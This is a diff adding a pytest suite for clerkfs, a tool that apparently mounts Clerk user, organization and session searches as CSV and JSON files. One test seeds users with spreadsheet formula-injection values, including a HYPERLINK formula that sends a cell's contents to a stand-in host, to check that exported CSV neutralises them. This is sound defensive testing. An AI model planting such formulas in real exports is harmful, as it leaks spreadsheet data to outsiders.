@@ -1,0 +1,463 @@
+"""Search directories: every Find of the Backend API as files.
+
+A person asks "which users have an example.com address", "which
+organizations is this user in", "which sessions of this user are active",
+and hands the answer to a spreadsheet (results.csv, read here by Python's
+csv module), to jq (results.json), to a script reading lines
+(results.ndjson), or just wants the first match or the count. Each story
+mounts clerkfs on the local Clerk server, reads the files with real tools,
+and checks what the server received.
+"""
+
+import csv
+import io
+import json
+import os
+import subprocess
+import time
+
+import pytest
+
+from helpers import routes, sh
+
+USERS = "search/users"
+
+
+def read_csv(path, encoding="utf-8"):
+    """Every record of a CSV file, as a spreadsheet import would see it."""
+    with open(path, newline="", encoding=encoding) as f:
+        return list(csv.reader(f))
+
+
+def as_dicts(records):
+    header, *rows = records
+    return [dict(zip(header, row)) for row in rows]
+
+
+def list_requests(server, route="GET /v1/users"):
+    return server.requests(route)
+
+
+def every_user(server):
+    """All users as the API pages them (sent before a counter reset)."""
+    users, offset = [], 0
+    while True:
+        status, page = server.api("GET", "/users",
+                                  query={"limit": 500, "offset": offset})
+        assert status == 200
+        users += page
+        if len(page) < 500:
+            return users
+        offset += 500
+
+
+def errno_of(call):
+    try:
+        call()
+    except OSError as error:
+        return error.errno
+    return 0
+
+
+# ---- exporting everything -------------------------------------------------
+
+def test_csv_export_of_every_user_takes_three_pages(big):
+    server, mount = big
+
+    records = read_csv(mount.path / USERS / "results.csv")
+
+    assert len(records) == 1235
+    assert records[0][:4] == ["id", "username", "first_name", "last_name"]
+    assert len({row[0] for row in records[1:]}) == 1234
+    assert routes(server).get("GET /v1/users") == 3
+    assert routes(server).get("GET /v1/users/count", 0) <= 1
+    # B16: every page asks for at most 500, and paging never relies on
+    # the API's default of 10.
+    pages = list_requests(server)
+    assert sorted(int(r["query"]["offset"][0]) for r in pages) == \
+        [0, 500, 1000]
+    assert all(1 <= int(r["query"]["limit"][0]) <= 500 for r in pages)
+
+
+def test_jq_counts_every_user_in_the_json_array(big):
+    server, mount = big
+
+    length = sh(f"jq length {USERS}/results.json", cwd=mount.path).stdout
+
+    assert length == "1234\n"
+    assert routes(server).get("GET /v1/users") == 3
+
+
+def test_count_of_all_users_comes_from_the_count_endpoint(big):
+    server, mount = big
+
+    count = (mount.path / USERS / "count").read_text()
+
+    assert count == "1234\n"
+    assert routes(server) == {"GET /v1/users/count": 1}
+
+
+def test_count_of_an_email_query_is_one_request(big):
+    server, mount = big
+    expected = sum(
+        1 for user in every_user(server)
+        if any("example.com" in e["email_address"].lower()
+               for e in user["email_addresses"]))
+    server.reset()
+
+    count = sh(f"cat '{USERS}/email_address_query=example.com/count'",
+               cwd=mount.path).stdout
+
+    assert 0 < expected < 1234
+    assert count == f"{expected}\n"
+    assert routes(server) == {"GET /v1/users/count": 1}
+    sent = list_requests(server, "GET /v1/users/count")[0]["query"]
+    assert sent == {"email_address_query": ["example.com"]}
+
+
+def test_json_lines_stream_while_later_pages_load(make_server, make_mount):
+    server = make_server(users=1234, latency_ms=500)
+    mount = make_mount(server)
+    server.reset()
+    path = f"{USERS}/results.ndjson"
+
+    started = time.monotonic()
+    first = sh(f"head -n 1 {path}", cwd=mount.path).stdout
+    elapsed = time.monotonic() - started
+    sent_by_then = routes(server).get("GET /v1/users")
+    size_by_then = os.stat(mount.path / path).st_size
+
+    assert json.loads(first)["id"].startswith("user_")
+    assert elapsed < 1.0, f"head took {elapsed:.2f}s for one 0.5 s page"
+    assert sent_by_then == 1
+    assert size_by_then == 0    # not complete yet: no size to promise
+
+    lines = (mount.path / path).read_text().splitlines()
+    ids = [json.loads(line)["id"] for line in lines]
+    assert len(ids) == 1234 == len(set(ids))
+    assert ids[0] == json.loads(first)["id"]
+    assert os.stat(mount.path / path).st_size == \
+        len((mount.path / path).read_bytes())
+    newest_first = [u["id"] for u in sorted(
+        every_user(server), key=lambda u: u["created_at"], reverse=True)]
+    assert ids == newest_first
+
+
+# ---- one snapshot per directory -------------------------------------------
+
+def test_listing_runs_no_search(small):
+    server, mount = small
+
+    sh(f"ls search search/users search/orgs search/sessions "
+       f"'{USERS}/banned=true' 'search/orgs/query=acme'", cwd=mount.path)
+
+    assert routes(server) == {}
+
+
+def test_the_files_of_a_directory_share_one_search(small):
+    server, mount = small
+
+    listing = sh(f"ls -l {USERS}", cwd=mount.path).stdout
+    contents = {name: (mount.path / USERS / name).read_bytes()
+                for name in ("results.csv", "results.json",
+                             "results.ndjson", "first.json", "count")}
+
+    assert routes(server) == {"GET /v1/users": 1}
+    for name, content in contents.items():
+        assert f" {len(content)} " in next(
+            line for line in listing.splitlines() if line.endswith(name))
+    users = json.loads(contents["results.json"])
+    assert contents["count"] == f"{len(users)}\n".encode()
+    assert json.loads(contents["first.json"]) == users[0]
+    # Laid out as `jq .` prints it (Python here: jq 1.6 rounds 64-bit ints).
+    assert contents["results.json"].decode() == json.dumps(
+        users, indent=2, ensure_ascii=False) + "\n"
+    assert [json.loads(line) for line in
+            contents["results.ndjson"].splitlines()] == users
+
+
+def test_first_match_asks_for_one_and_is_absent_without_one(small):
+    server, mount = small
+    folder = mount.path / USERS / "email_address_query=example.com"
+    empty = mount.path / USERS / "username=nobody_has_this"
+
+    first = json.loads((folder / "first.json").read_text())
+
+    assert any("example.com" in e["email_address"]
+               for e in first["email_addresses"])
+    sent = list_requests(server)
+    assert len(sent) == 1 and sent[0]["query"]["limit"] == ["1"]
+    assert errno_of(lambda: (empty / "first.json").read_text()) == 2
+    assert "first.json" not in os.listdir(empty)
+    assert (empty / "count").read_text() == "0\n"
+    assert list(csv.reader(io.StringIO((empty / "results.csv").read_text())))
+    assert json.loads((empty / "results.json").read_text()) == []
+
+
+def test_a_failed_search_is_not_kept(small):
+    server, mount = small
+    server.faults(route="GET /v1/users", status=422, count=1)
+    path = mount.path / USERS / "banned=false" / "results.csv"
+
+    assert errno_of(lambda: path.read_bytes()) == 22      # EINVAL
+    records = read_csv(path)
+
+    assert len(records) > 1
+    assert routes(server) == {"GET /v1/users": 2}
+
+
+# ---- exact sizes (B06) -----------------------------------------------------
+
+@pytest.fixture
+def example_org(make_server, make_mount):
+    """120 users at example.org, one of them Zoë Ñúñez, paged by 50."""
+    server = make_server(users=0)
+    for i in range(119):
+        server.put("users", {"first_name": f"Person {i}",
+                             "last_name": "Example",
+                             "email_addresses": [f"p{i}@example.org"]})
+    zoe = server.put("users", {"first_name": "Zoë", "last_name": "Ñúñez",
+                               "email_addresses": ["zoe@example.org"]})
+    mount = make_mount(server, page_size=50)
+    server.reset()
+    return server, mount, zoe
+
+
+def test_size_of_a_result_is_the_bytes_read(example_org, tmp_path):
+    server, mount, zoe = example_org
+    f = f"{USERS}/email_address_query=example.org/results.csv"
+
+    size = int(sh(f"stat -c %s '{f}'", cwd=mount.path).stdout)
+    catted = sh(f"cat '{f}' | wc -c", cwd=mount.path).stdout
+    sh(f"cp '{f}' {tmp_path}/x.csv && cmp <(cat '{f}') {tmp_path}/x.csv",
+       cwd=mount.path)
+    tail = subprocess.run(["tail", "-c", "40", mount.path / f],
+                          capture_output=True, check=True).stdout
+    content = (mount.path / f).read_bytes()
+
+    assert size > 4096
+    assert size == int(catted) == len(content)
+    assert (tmp_path / "x.csv").stat().st_size == size
+    assert tail == content[-40:]
+    assert "Ñúñez".encode() in content
+    assert len(read_csv(mount.path / f)) == 121
+    assert routes(server).get("GET /v1/users") == 3
+    for name in ("results.json", "results.ndjson", "first.json", "count"):
+        g = mount.path / USERS / "email_address_query=example.org" / name
+        assert g.stat().st_size == len(g.read_bytes())
+
+    # A remote change within the TTL: size and content still agree.
+    server.patch("users", zoe["id"], {"first_name": "Zoë Renamed"})
+    assert os.stat(mount.path / f).st_size == len(
+        (mount.path / f).read_bytes())
+
+
+# ---- CSV as a spreadsheet reads it (B25, B27) ----------------------------
+
+def test_quotes_commas_and_line_breaks_round_trip(make_server, make_mount):
+    server = make_server(users=0)
+    server.put("users", {"first_name": 'Ana, "AJ"\nLine2',
+                         "last_name": "Rivera\r\nOrtiz",
+                         "username": "plain_user"})
+    mount = make_mount(server)
+    path = mount.path / USERS / "username=plain_user" / "results.csv"
+
+    raw = path.read_bytes()
+    records = read_csv(path, encoding="utf-8-sig")
+
+    assert len(records) == 2
+    row = as_dicts(records)[0]
+    assert row["first_name"] == 'Ana, "AJ"\nLine2'
+    assert row["last_name"] == "Rivera\r\nOrtiz"
+    assert row["username"] == "plain_user"
+    assert not raw.startswith(b"\xef\xbb\xbf")
+    assert raw.split(b"\n")[0].endswith(b"public_metadata")   # LF ends
+    assert os.stat(path).st_size == len(raw)
+
+
+def test_formula_cells_are_guarded_but_numbers_are_not(make_server,
+                                                       make_mount):
+    server = make_server(users=0)
+    hyperlink = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'
+    a = server.put("users", {"first_name": hyperlink, "last_name": "+1+1",
+                             "username": "@sum_test"})
+    b = server.put("users", {"first_name": "\t=1+1",
+                             "phone_numbers": ["+15555550100"],
+                             "public_metadata": {"score": -5}})
+    mount = make_mount(server)
+
+    rows = {row["id"]: row for row in
+            as_dicts(read_csv(mount.path / USERS / "results.csv"))}
+
+    assert rows[a["id"]]["first_name"] == "'" + hyperlink
+    assert rows[a["id"]]["last_name"] == "'+1+1"
+    assert rows[a["id"]]["username"] == "'@sum_test"
+    assert rows[b["id"]]["first_name"] == "'\t=1+1"
+    assert rows[b["id"]]["primary_phone_number"] == "+15555550100"
+    assert rows[b["id"]]["public_metadata"] == '{"score":-5}'
+    profile = mount.path / "users" / a["id"] / "profile.json"
+    assert json.loads(profile.read_text())["first_name"] == hyperlink
+    json_rows = json.loads((mount.path / USERS / "results.json").read_text())
+    assert {u["first_name"] for u in json_rows} == {hyperlink, "\t=1+1"}
+
+
+def test_csv_bom_option_starts_the_file_with_a_bom(make_server, make_mount):
+    server = make_server(users=3)
+    mount = make_mount(server, csv_bom=True)
+    path = mount.path / USERS / "results.csv"
+
+    raw = path.read_bytes()
+
+    assert raw.startswith(b"\xef\xbb\xbfid,username,")
+    assert len(read_csv(path, encoding="utf-8-sig")) == 4
+    assert os.stat(path).st_size == len(raw)
+
+
+# ---- names of query directories -----------------------------------------
+
+def test_escapes_are_decoded_and_plus_is_literal(make_server, make_mount):
+    server = make_server(users=5)
+    ada = server.put("users", {"first_name": "Ada",
+                               "email_addresses": ["ada+tag@example.com"]})
+    mount = make_mount(server)
+    server.reset()
+
+    for name in ("email_address=ada%2Btag%40example.com",
+                 "email_address=ada+tag@example.com"):
+        users = json.loads(
+            (mount.path / USERS / name / "results.json").read_text())
+        assert [u["id"] for u in users] == [ada["id"]]
+    sent = list_requests(server)
+    assert [r["query"]["email_address"] for r in sent] == \
+        [["ada+tag@example.com"]] * 2
+
+
+def test_repeated_keys_and_ordering_reach_the_api(small):
+    server, mount = small
+    status, users = server.api("GET", "/users", query={"limit": 3})
+    server.reset()
+    ids = [u["id"] for u in users]
+    name = "&".join(f"user_id={i}" for i in ids) + "&order_by=%2Bcreated_at"
+
+    found = as_dicts(read_csv(mount.path / USERS / name / "results.csv"))
+    count = (mount.path / USERS / name / "count").read_text()
+
+    assert [row["id"] for row in found] == ids[::-1]
+    assert count == "3\n"
+    sent = list_requests(server)[0]["query"]
+    assert sent["user_id"] == ids and sent["order_by"] == ["+created_at"]
+
+
+@pytest.mark.parametrize("name", [
+    "limit=5", "offset=10", "starting_after=user_x", "favourite_color=blue",
+    "banned=maybe", "created_at_after=yesterday", "order_by=shoe_size",
+    "email_address=%zz", "query=a&query=b", "email_address", "query=",
+    "query=a&&banned=true",
+])
+def test_names_that_are_no_query_do_not_exist(small, name):
+    server, mount = small
+
+    assert errno_of(lambda: os.stat(mount.path / USERS / name)) == 2
+    assert routes(server) == {}
+    assert f"search/users/{name}" in mount.log()
+
+
+def test_sessions_take_their_own_parameters(small):
+    server, mount = small
+    sessions = mount.path / "search" / "sessions"
+
+    for name in ("paginated=true", "status=active", "user_id=a&limit=2",
+                 "email_address=a@example.com", "status=sleeping&user_id=a"):
+        assert errno_of(lambda: os.stat(sessions / name)) == 2
+    assert errno_of(lambda: os.stat(sessions / "results.csv")) == 2
+    assert os.listdir(sessions) == []
+    assert routes(server) == {}
+
+
+def test_mkdir_keeps_a_query_listed_until_rmdir(small):
+    server, mount = small
+    users = mount.path / USERS
+    query = "email_address_query=example.com&banned=false"
+
+    os.mkdir(users / query)
+    assert query in os.listdir(users)
+    assert errno_of(lambda: os.mkdir(users / query)) == 17     # EEXIST
+    assert int((users / query / "count").read_text()) > 0
+    os.rmdir(users / query)
+    assert query not in os.listdir(users)
+    assert errno_of(lambda: os.rmdir(users / query)) == 2      # ENOENT
+
+    assert errno_of(lambda: os.mkdir(users / "limit=5")) == 22  # EINVAL
+    errors = (mount.path / ".clerkfs" / "errors").read_text()
+    assert "search/users/limit=5" in errors and "'limit'" in errors
+    os.mkdir(mount.path / "search" / "orgs" / "query=acme")
+    assert os.listdir(mount.path / "search" / "orgs") == [
+        "results.csv", "results.json", "results.ndjson", "first.json",
+        "count", "query=acme"]
+
+
+# ---- organizations and sessions --------------------------------------------
+
+def test_organizations_of_one_user(big):
+    server, mount = big
+    for user in server.api("GET", "/users", query={"limit": 100})[1]:
+        status, memberships = server.api(
+            "GET", f"/users/{user['id']}/organization_memberships",
+            query={"limit": 100})
+        if memberships["total_count"] >= 2:
+            break
+    expected = {m["organization"]["id"] for m in memberships["data"]}
+    server.reset()
+
+    orgs = json.loads(sh(f"cat search/orgs/user_id={user['id']}/results.json",
+                         cwd=mount.path).stdout)
+
+    assert {org["id"] for org in orgs} == expected
+    assert routes(server) == {"GET /v1/organizations": 1}
+    others = (mount.path / "search" / "orgs" / f"user_id=-{user['id']}" /
+              "count").read_text()
+    assert others == f"{40 - len(expected)}\n"
+    sent = list_requests(server, "GET /v1/organizations")[-1]["query"]
+    assert sent["user_id"] == [f"-{user['id']}"]
+
+
+def test_organization_count_and_members_count(big):
+    server, mount = big
+    orgs = mount.path / "search" / "orgs"
+
+    count = (orgs / "count").read_text()
+    assert count == "40\n"
+    assert routes(server) == {"GET /v1/organizations": 1}
+    assert list_requests(server, "GET /v1/organizations")[0]["query"][
+        "limit"] == ["1"]
+
+    with_counts = as_dicts(read_csv(
+        orgs / "include_members_count=true" / "results.csv"))
+    without = as_dicts(read_csv(orgs / "results.csv"))
+    assert len(with_counts) == len(without) == 40
+    big_org = next(r for r in with_counts if r["id"] == "org_2TstBig0016")
+    assert big_org["members_count"] == "750"
+    assert all(r["members_count"] == "" for r in without)
+
+
+def test_active_sessions_of_one_user(small):
+    server, mount = small
+    status, users = server.api("GET", "/users",
+                               query={"order_by": "created_at", "limit": 1})
+    user_id = users[0]["id"]
+    status, every = server.api("GET", "/sessions",
+                               query={"user_id": user_id, "limit": 500})
+    active = {s["id"] for s in every if s["status"] == "active"}
+    server.reset()
+    folder = mount.path / "search" / "sessions" / \
+        f"user_id={user_id}&status=active"
+
+    rows = as_dicts(read_csv(folder / "results.csv"))
+    count = (folder / "count").read_text()
+
+    assert len({s["status"] for s in every}) > 1 and active
+    assert {r["id"] for r in rows} == active
+    assert {r["status"] for r in rows} == {"active"}
+    assert all(r["user_id"] == user_id for r in rows)
+    assert count == f"{len(active)}\n"
+    assert routes(server) == {"GET /v1/sessions": 1}
